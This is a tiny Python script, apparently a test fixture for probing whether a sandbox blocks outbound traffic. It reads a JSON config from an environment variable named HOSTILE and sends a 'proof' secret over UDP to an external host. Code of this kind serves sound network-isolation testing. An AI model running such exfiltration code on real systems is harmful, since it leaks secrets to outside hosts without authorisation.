"""Sends a secret to the outside in a datagram."""

import json
import os
import socket

W = json.loads(os.environ["HOSTILE"])
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
    client.sendto(W["proof"].encode(), (W["outside"], W["udp"]))
